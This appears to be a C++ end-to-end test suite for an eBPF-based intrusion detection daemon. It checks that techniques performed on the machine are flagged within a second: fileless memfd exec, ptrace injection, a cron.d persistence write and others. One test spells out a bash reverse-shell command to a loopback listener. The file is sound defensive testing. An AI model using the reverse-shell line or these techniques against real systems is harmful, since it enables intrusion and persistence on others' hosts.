// SPDX-License-Identifier: Apache-2.0
// The kernel sensor end to end: `phantomguard run` with kernel_events, process_behavior and
// kernel_loads into a jsonl archive; each technique is performed for real on this machine and its
// finding must reach the archive within one second, naming the kernel event. Then the fallback:
// the same daemon without BPF (mode = "netlink") still finds what /proc shows.
#include <catch2/catch.hpp>

#include <arpa/inet.h>
#include <filesystem>
#include <fstream>
#include <netinet/in.h>
#include <sstream>
#include <sys/socket.h>
#include <thread>

#include <nlohmann/json.hpp>

#include "api_support.hpp"
#include "cli_process.hpp"
#include "skip.hpp"

using namespace std::chrono_literals;

namespace {

std::string technique() {
  return PG_TECHNIQUE;
}

// The names of the [analyzers.NAME] tables in `toml`, each as `, "NAME"`.
std::string analyzer_names(const std::string& toml) {
  std::string out;
  for (auto at = toml.find("[analyzers."); at != std::string::npos;
       at = toml.find("[analyzers.", at + 1)) {
    auto end = toml.find(']', at);
    out += ", \"" + toml.substr(at + 11, end - at - 11) + "\"";
  }
  return out;
}

struct sensor_daemon {
  explicit sensor_daemon(const std::string& kernel_extra = "", const std::string& analyzers = "") {
    if (::geteuid() != 0)
      PG_SKIP("not root: the kernel sensor needs CAP_BPF and CAP_PERFMON");
    std::filesystem::create_directories(dir.dir);
    config = (dir.dir / "sensor.toml").string();
    std::ofstream(config) << "[engine]\nlog_level = \"info\"\nstate_dir = \"" << dir.state()
                          << "\"\n\n[sources.kernel_events]\ntype = \"kernel_events\"\n"
                             "interval = \"100ms\"\n"
                          << kernel_extra
                          << "\n[analyzers.behavior]\ntype = \"process_behavior\"\n"
                             "inputs = [\"kernel_events\"]\n\n"
                             "[analyzers.kernel_loads]\ntype = \"kernel_loads\"\n"
                             "inputs = [\"kernel_events\"]\n"
                          << analyzers
                          << "\n[sinks.archive]\ntype = \"jsonl\"\ninputs = [\"behavior\", "
                             "\"kernel_loads\""
                          << analyzer_names(analyzers) << "]\npath = \""
                          << dir.archive() << "\"\nflush = \"event\"\n";
    daemon = std::make_unique<pg::test::cli_process>(std::vector<std::string>{"run", "--config", config});
    REQUIRE(pg::test::wait_for(*daemon, "collecting via", 15s));
  }
  ~sensor_daemon() {
    if (daemon) {
      daemon->signal(SIGTERM);
      daemon->wait(15s);
    }
  }
  // The first archived finding with `rule` whose entity or evidence pid is `pid` (0: any), polled
  // every 10 ms until `limit`.
  std::optional<nlohmann::json> finding(const std::string& rule, pid_t pid,
                                        std::chrono::milliseconds limit = 3000ms) {
    auto until = std::chrono::steady_clock::now() + limit;
    do {
      std::istringstream in(pg::test::slurp(dir.archive()));
      std::string line;
      while (std::getline(in, line)) {
        auto j = nlohmann::json::parse(line, nullptr, false);
        if (j.is_discarded() || j.value("rule", "") != rule)
          continue;
        auto id = j["entity"].value("pid", j["evidence"].value("pid", 0));
        if (pid == 0 || id == pid)
          return j;
      }
      std::this_thread::sleep_for(10ms);
    } while (std::chrono::steady_clock::now() < until);
    return std::nullopt;
  }
  pg::test::daemon_dir dir;
  std::string config;
  std::unique_ptr<pg::test::cli_process> daemon;
};

struct ran {
  pid_t pid;
  int code;
  std::string out;
  std::chrono::steady_clock::time_point done;
};

ran perform(std::vector<std::string> argv) {
  pg::test::cli_process p(std::move(argv), pg::test::cli_process::raw_command);
  pid_t pid = p.pid();
  int code = p.wait(30s);
  return {pid, code, p.out(), std::chrono::steady_clock::now()};
}

// Checks the finding for `rule` of process `pid` arrived within a second of `done`, through the
// kernel path.
void arrives(sensor_daemon& d, const std::string& rule, pid_t pid,
             std::chrono::steady_clock::time_point done) {
  auto f = d.finding(rule, pid);
  INFO(rule << " for pid " << pid << "; daemon log:\n" << d.daemon->err());
  REQUIRE(f);
  auto latency = std::chrono::duration_cast<std::chrono::milliseconds>(
      std::chrono::steady_clock::now() - done);
  WARN(rule << " arrived within " << latency.count() << " ms");
  CHECK(latency < 1000ms);
  CHECK_FALSE((*f)["evidence"].value("kernel_event", "").empty());
  CHECK_FALSE((*f)["mitre"].empty());
}

} // namespace

SCENARIO("each technique performed on the machine is a finding within a second through the kernel sensor") {
  sensor_daemon d;
  REQUIRE(d.daemon->err().find("collecting via the eBPF sensor") != std::string::npos);
  auto tool = technique();

  auto memfd = perform({tool, "memfd-exec"});
  REQUIRE(memfd.code == 0);
  arrives(d, "process.fileless_exec", memfd.pid, memfd.done);

  auto attach = perform({tool, "ptrace-attach"});
  REQUIRE(attach.code == 0);
  arrives(d, "memory.ptrace_injection", attach.pid, attach.done);

  auto vm = perform({tool, "vm-write"});
  REQUIRE(vm.code == 0);
  arrives(d, "memory.process_vm_write", vm.pid, vm.done);

  auto rwx = perform({tool, "rwx"});
  REQUIRE(rwx.code == 0);
  arrives(d, "memory.anon_exec", rwx.pid, rwx.done);

  auto bpf = perform({tool, "bpf-load"});
  REQUIRE(bpf.code == 0);
  arrives(d, "rootkit.bpf_load", bpf.pid, bpf.done);

  auto regain = perform({tool, "regain-root"});
  REQUIRE(regain.code == 0);
  arrives(d, "process.privilege_gain", regain.pid, regain.done);

  // An exec from /dev/shm (world-writable, memory-backed).
  auto shm = "/dev/shm/pg-e2e-" + std::to_string(::getpid());
  std::filesystem::copy_file("/bin/true", shm, std::filesystem::copy_options::overwrite_existing);
  std::filesystem::permissions(shm, std::filesystem::perms::owner_all);
  auto dropped = perform({shm});
  std::filesystem::remove(shm);
  REQUIRE(dropped.code == 0);
  arrives(d, "process.exec_world_writable", dropped.pid, dropped.done);

  // A service (a program named nginx) spawning a shell.
  auto fake = (d.dir.dir / "nginx").string();
  std::filesystem::copy_file("/bin/bash", fake);
  auto service = perform({fake, "-c", "/bin/sh -c 'exit 0'; exit 0"});
  REQUIRE(service.code == 0);
  auto lineage = d.finding("process.suspicious_lineage", 0);
  REQUIRE(lineage);
  CHECK((*lineage)["evidence"]["parent"]["comm"] == "nginx");
  CHECK((*lineage)["evidence"]["parent"]["pid"] == service.pid);
}

SCENARIO("a reverse shell to a loopback listener is a finding at the moment it connects its stdio") {
  sensor_daemon d;
  int server = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  REQUIRE(::bind(server, reinterpret_cast<sockaddr*>(&addr), sizeof addr) == 0);
  REQUIRE(::listen(server, 1) == 0);
  socklen_t len = sizeof addr;
  ::getsockname(server, reinterpret_cast<sockaddr*>(&addr), &len);
  int port = ntohs(addr.sin_port);
  // The attacker's end: takes the connection, lets the shell come up, tells it to exit.
  std::thread listener([&] {
    int c = ::accept4(server, nullptr, nullptr, SOCK_CLOEXEC);
    if (c >= 0) {
      std::this_thread::sleep_for(300ms);
      [[maybe_unused]] auto n = ::write(c, "exit\n", 5);
      std::this_thread::sleep_for(200ms);
      ::close(c);
    }
  });
  auto shell = perform({"/bin/bash", "-c",
                        "bash -i >& /dev/tcp/127.0.0.1/" + std::to_string(port) + " 0>&1"});
  listener.join();
  ::close(server);
  auto f = d.finding("process.reverse_shell", 0);
  INFO(d.daemon->err());
  REQUIRE(f);
  CHECK((*f)["severity"] == "critical");
  CHECK((*f)["evidence"]["kernel_event"] == "sys_enter_dup2");
  CHECK((*f)["evidence"]["remote_port"] == port);
  CHECK((*f)["evidence"]["remote_address"] == "127.0.0.1");
  // One session, one finding: the shell's own children on the same socket are not repeated.
  std::this_thread::sleep_for(300ms);
  auto archive = pg::test::slurp(d.dir.archive());
  std::istringstream in(archive);
  std::string line;
  std::size_t count = 0;
  while (std::getline(in, line))
    if (nlohmann::json::parse(line, nullptr, false).value("rule", "") == "process.reverse_shell")
      ++count;
  INFO(archive);
  CHECK(count == 1);
  (void)shell;
}

SCENARIO("without the eBPF sensor the fallback path still finds what /proc shows") {
  sensor_daemon d("mode = \"netlink\"\n",
                  "\n[analyzers.process]\ntype = \"process\"\ninputs = [\"kernel_events\"]\n"
                  "self_scan = \"never\"\n");
  REQUIRE(d.daemon->err().find("collecting via netlink") != std::string::npos);
  // A fileless program that lives long enough for /proc to be read.
  pg::test::cli_process payload({technique(), "memfd-exec", "/bin/sleep", "3"},
                                pg::test::cli_process::raw_command);
  auto f = d.finding("memory.memfd_exec", payload.pid(), 5000ms);
  INFO(d.daemon->err());
  REQUIRE(f);
  CHECK((*f)["analyzer"] == "process");
  payload.signal(SIGKILL);
}

SCENARIO("validate names a bad kernel_events setting with its place") {
  pg::test::daemon_dir dir;
  std::filesystem::create_directories(dir.dir);
  auto path = (dir.dir / "bad.toml").string();
  std::ofstream(path) << "[sources.k]\ntype = \"kernel_events\"\nkinds = [\"exec\", \"tcp\"]\n\n"
                         "[analyzers.b]\ntype = \"process_behavior\"\ninputs = [\"k\"]\n\n"
                         "[sinks.c]\ntype = \"console\"\ninputs = [\"b\"]\n";
  auto r = pg::test::run_cli({"validate", "--config", path});
  CHECK(r.code == 2);
  CHECK(r.err.find("unknown kind 'tcp'") != std::string::npos);
  std::ofstream(path) << "[sources.k]\ntype = \"kernel_events\"\nring_size = \"1KiB\"\n\n"
                         "[analyzers.b]\ntype = \"process_behavior\"\ninputs = [\"k\"]\n\n"
                         "[sinks.c]\ntype = \"console\"\ninputs = [\"b\"]\n";
  r = pg::test::run_cli({"validate", "--config", path});
  CHECK(r.code == 2);
  CHECK(r.err.find("ring_size") != std::string::npos);
  CHECK(r.err.find("bad.toml:3:") != std::string::npos);
}

SCENARIO("a write to a persistence file is attributed to its writer by the kernel sensor") {
  // fanotify off: the kernel's open-for-write record alone names the process.
  sensor_daemon d("", "\n[analyzers.watch]\ntype = \"file_watch\"\ninputs = [\"kernel_events\"]\n"
                      "interval = \"200ms\"\nfanotify = false\n");
  auto path = "/etc/cron.d/pg-kernel-test-" + std::to_string(::getpid());
  auto writer = perform({"/bin/sh", "-c", "echo '# test' > " + path + "; sleep 0.3"});
  std::filesystem::remove(path);
  REQUIRE(writer.code == 0);
  auto f = d.finding("realtime.persistence_change", writer.pid, 5000ms);
  INFO(d.daemon->err() << pg::test::slurp(d.dir.archive()));
  REQUIRE(f);
  CHECK((*f)["entity"]["path"] == path);
  CHECK((*f)["evidence"]["attribution"] == "kernel_events: the process that opened it for writing");
  CHECK((*f)["evidence"]["writers"][0]["seen_by"] == "kernel_events");
  CHECK((*f)["evidence"]["writers"][0]["comm"] == "sh");
}
